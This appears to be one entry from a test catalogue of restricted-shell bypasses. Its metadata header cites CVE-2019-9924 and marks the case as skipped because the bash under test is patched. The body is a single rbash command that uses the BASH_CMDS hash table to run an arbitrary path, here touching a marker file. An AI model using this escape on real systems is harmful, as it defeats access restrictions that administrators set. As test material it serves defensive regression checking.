#@ id: rb-bash-cmds
#@ about: old bash: runs any path (CVE-2019-9924)
#@ class: restricted-shell
#@ kind: bypass
#@ origin: https://nvd.nist.gov/vuln/detail/CVE-2019-9924 (from general knowledge; the address was not opened)
#@ world: catalogue
#@ skip: patched in this bash: observed "restricted"
#@ body: no-final-newline
#@ ---
rbash -c 'BASH_CMDS[a]=/usr/bin/touch; a PWNED'
